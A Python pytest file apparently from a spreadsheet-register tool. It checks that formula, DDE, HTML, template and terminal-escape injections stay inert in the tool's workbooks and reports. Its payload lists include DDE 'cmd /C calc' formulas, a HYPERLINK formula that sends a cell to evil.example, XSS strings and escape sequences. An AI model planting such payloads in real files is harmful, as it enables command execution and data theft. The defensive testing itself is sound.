"""Texts that would be formulas, markup or commands somewhere: in our sheets, CSV, HTML, JSON and the terminal."""

import csv
import io
import json
from html.parser import HTMLParser

import openpyxl
import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from rich.console import Console
from tests.hostile.conftest import OPTIONS, Run
from tests.hostile.workbooks import SHEET, pack, parts_of, register_bytes, register_parts, rows_with

from regsheet.package import open_package
from regsheet.pipeline import examine, strip
from regsheet.reports.csv_report import FORMULA_STARTS, findings_csv, inert
from regsheet.reports.html_report import findings_html
from regsheet.reports.json_report import as_text, report_object
from regsheet.reports.screen import Screen, printable
from regsheet.reports.terminal import print_annotated, print_layout, print_report

STARTS = ["=", "+", "-", "@", "\t=", "\r=", "\n=", " =", "＝", "'=", '"=']
ATTACKS = [
    *(f"{start}cmd|' /C calc'!A0" for start in STARTS),
    '=HYPERLINK("http://evil.example/?"&A1,"Click")', "=1+1", "{=1+1}", "@SUM(1+1)*cmd",
    "<script>alert(1)</script>", '"><img src=x onerror=alert(1)>', "' onmouseover='alert(1)", "</td></table>",
    "&lt;b&gt;", "{{ 7*7 }}", "{% for x in y %}", "[bold red]x[/bold red]", "[/]", "{title}", "{0}", "%s", "&A&B",
    "\x1b[2J\x1b]0;owned\x07", "\x9b31mred", "a\u202etxt.exe", "http://evil.example", "mailto:a@evil.example",
    "internal:'x'!A1", "file:///etc/passwd", r"\\server\share", "_x0041__x001B_[2J", "O'Brien's \"quoted\" post",
]  # fmt: skip
COMMANDS = ("\x1b", "\x9b", "\x07", "\u202e")


def attacked(text: str) -> bytes:
    """A register in which every text of some risks is ``text``, and which has findings that quote it."""
    rows = rows_with({}, 8)
    for number in (2, 3, 5):
        rows[number] = [text if isinstance(value, str) or value is None else value for value in rows[number]]
        rows[number][0] = f"{text}{number}"[-40:] if number == 2 else f"R{number}"
    return register_bytes(rows)


class Tags(HTMLParser):
    """The tags and attributes of a page."""

    def __init__(self) -> None:
        super().__init__()
        self.seen: set[tuple[str, tuple[str, ...]]] = set()

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        self.seen.add((tag, tuple(sorted(name for name, _ in attrs))))


def tags_of(page: str) -> set[tuple[str, tuple[str, ...]]]:
    parser = Tags()
    parser.feed(page)
    return parser.seen


@pytest.mark.parametrize("text", ATTACKS)
def test_texts_stay_texts(text: str, annotated, tmp_path) -> None:
    path = tmp_path / "register.xlsx"
    done = annotated(attacked(text))
    assert done.report.settled.findings
    before = {sheet.title for sheet in openpyxl.load_workbook(path)}
    for sheet in openpyxl.load_workbook(done.path):
        if sheet.title not in before:
            formulas = [str(cell.value) for row in sheet.iter_rows() for cell in row if cell.data_type == "f"]
            assert not [one for one in formulas if "cmd" in one or "HYPERLINK" in one or "1+1" in one]
            links = [cell.hyperlink for row in sheet.iter_rows() for cell in row if cell.hyperlink is not None]
            assert not [link for link in links if link.target]
    assert all(not link.external for link in links_of(done.path))
    reports = [("register.xlsx", examine(path, OPTIONS))]
    rows = list(csv.reader(io.StringIO(findings_csv(reports), newline="")))
    assert not [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS) and not number(cell)]
    page = findings_html(reports)
    assert not {tag for tag, _ in tags_of(page)} & {"script", "img", "a", "b", "iframe", "base", "link"}
    assert not [name for _, names in tags_of(page) for name in names if name.startswith("on") or name == "href"]
    json.loads(as_text([report_object(*reports[0])]))
    shown = [page, findings_csv(reports), on_screen(reports[0][1], done)]
    assert not [mark for mark in COMMANDS for view in shown if mark in view]
    assert strip(done.path).exact


def links_of(path):
    package = open_package(path)
    return [link for name in package.names if not name.endswith(".rels") for link in package.relationships(name)]


def number(text: str) -> bool:
    try:
        float(text)
    except ValueError:
        return False
    return True


def on_screen(report, done) -> str:
    stream = io.StringIO()
    screen = Screen(file=stream, force_terminal=False, width=60)
    print_report(screen, report)
    print_annotated(screen, done)
    return stream.getvalue()


def test_rich_itself_would_let_commands_through() -> None:
    """Why ``Screen`` is there."""
    for kind, expected in ((Console, True), (Screen, False)):
        stream = io.StringIO()
        kind(file=stream, force_terminal=False).print("a\x1b[2Jb", markup=False)
        assert ("\x1b" in stream.getvalue()) == expected
    stream = io.StringIO()
    Screen(file=stream, force_terminal=True, color_system="standard").print("[red]a[/red]")
    assert "\x1b[31m" in stream.getvalue()  # its own colours stay


@given(st.text())
@settings(max_examples=300, deadline=None)
def test_no_text_is_a_formula_or_a_command(text: str) -> None:
    assert not inert(printable(text)).startswith(FORMULA_STARTS) or number(printable(text))
    shown = printable(text)
    assert not [c for c in shown if (ord(c) < 32 and c not in "\n\t") or 0x7F <= ord(c) <= 0x9F]
    shown.encode("utf-8")


SHEET_NAMES = [
    "it's 'quoted' so", '"double"', "=1+1", "+a", "-a", "@a", "<b>&amp;", "a" * 31, "Findings", "FINDINGS", "heatmap",
    "Change log", "A1", "R1C1", "TRUE", "1", "a,b;c", "O'Brien & Söhne", "#REF!", "{}", "%s", "ﬁndings", "Fındings",
]  # fmt: skip


@pytest.mark.parametrize("name", SHEET_NAMES)
def test_names_of_sheets(name: str, annotated) -> None:
    def link(book) -> None:
        book.define_name("Everything", f"='{name.replace(chr(39), chr(39) * 2)}'!$A$1:$O$9")

    done = annotated(register_bytes(sheet_name=name, more=link))
    book = openpyxl.load_workbook(done.path)
    assert book.sheetnames.count(name) == 1
    lowered = [title.casefold() for title in book.sheetnames]
    assert len(set(lowered)) == len(lowered)
    assert all(len(title) <= 31 for title in book.sheetnames)
    quoted = name.replace("'", "''")
    ours = [sheet for sheet in book if sheet.title != name]
    places = [c.hyperlink.location for s in ours for row in s.iter_rows() for c in row if c.hyperlink is not None]
    assert f"'{quoted}'!K3" in places
    assert book.defined_names["Everything"].attr_text == f"'{quoted}'!$A$1:$O$9"
    assert strip(done.path).exact


@pytest.mark.parametrize(
    "name", ["=1+1.xlsx", "a & <b> 'c' {0} %s.xlsx", "-o.xlsx", "a\u202eb.xlsx", "é" * 60 + ".xlsx"]
)  # fmt: skip
def test_names_of_files(name: str, annotated) -> None:
    done = annotated(register_bytes(), name)
    assert strip(done.path).exact
    assert openpyxl.load_workbook(done.path)["Check summary"]["A1"].data_type == "s"


def stored(text: str) -> bytes:
    """A register whose first title is this text as the file stores it."""
    parts = register_parts()
    strings = parts["xl/sharedStrings.xml"]
    assert b"Loss of building 2" in strings
    return pack({**parts, "xl/sharedStrings.xml": strings.replace(b"Loss of building 2", text.encode())})


@pytest.mark.parametrize(
    "text",
    [
        "_xD800_ half", "_xDC00__xD800_", "_xD83D__xDE00_ whole", "_x0000_ _x0008_ _x001F_ _x007F_ _xFFFF_",
        "_x005F_x0041_", "&#x85;&#x2028;", "x" * 32_767, "é" * 32_767, "😀" * 16_000, "_x000D_" * 5_000, " " * 32_000,
    ],
)  # fmt: skip
def test_characters_that_files_can_hardly_hold(text: str, run_whole: Run) -> None:
    assert run_whole(stored(text)) == "annotated"


def test_our_cells_and_notes_stay_short(annotated) -> None:
    done = annotated(attacked("long " * 6_500))
    for sheet in openpyxl.load_workbook(done.path):
        for row in sheet.iter_rows():
            for cell in row:
                assert not isinstance(cell.value, str) or len(cell.value) <= 32_767
                assert cell.comment is None or len(cell.comment.text) <= 32_767
    assert strip(done.path).exact


def test_links_and_dde_stay_inert_and_are_reported(annotated, tmp_path) -> None:
    parts = register_parts()
    office = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
    main = "http://schemas.openxmlformats.org/spreadsheetml/2006/main"
    parts["xl/externalLinks/externalLink1.xml"] = (
        f'<externalLink xmlns="{main}"><ddeLink ddeService="cmd" ddeTopic="/c calc"/></externalLink>'
    ).encode()
    parts["xl/_rels/workbook.xml.rels"] = parts["xl/_rels/workbook.xml.rels"].replace(
        b"</Relationships>",
        f'<Relationship Id="rId99" Type="{office}/externalLink" Target="externalLinks/externalLink1.xml"/>'
        "</Relationships>".encode(),
    )
    parts["xl/workbook.xml"] = parts["xl/workbook.xml"].replace(
        b"</sheets>", b'</sheets><externalReferences><externalReference r:id="rId99"/></externalReferences>'
    )
    parts["[Content_Types].xml"] = parts["[Content_Types].xml"].replace(
        b"</Types>",
        b'<Override PartName="/xl/externalLinks/externalLink1.xml" ContentType="application/vnd.openxmlformats-'
        b'officedocument.spreadsheetml.externalLink+xml"/></Types>',
    )
    parts[SHEET] = parts[SHEET].replace(b'<c r="K3"><v>5</v></c>', b'<c r="K3"><f>[1]!A1</f><v>5</v></c>')
    done = annotated(pack(parts))
    link = "xl/externalLinks/externalLink1.xml"
    assert parts_of(done.path.read_bytes())[link] == parts[link]
    codes = {finding.code for finding in done.report.settled.findings}
    assert "HY009" in codes


def test_layouts_on_the_screen() -> None:
    from regsheet.layout.tables import Column, Layout, Table

    columns = (Column(1, "[red]a\x1b[2J[/]", "", "ref", 1.0, "x\x9b1m"),)
    layout = Layout((Table("[bold]\x1b]0;x\x07", "register", (1, 1), 2, 3, columns, (2, 3)),))
    stream = io.StringIO()
    print_layout(Screen(file=stream, width=200), "a\x1b[2J.xlsx", layout)
    assert not [mark for mark in COMMANDS if mark in stream.getvalue()]
    assert "[red]a" in stream.getvalue()
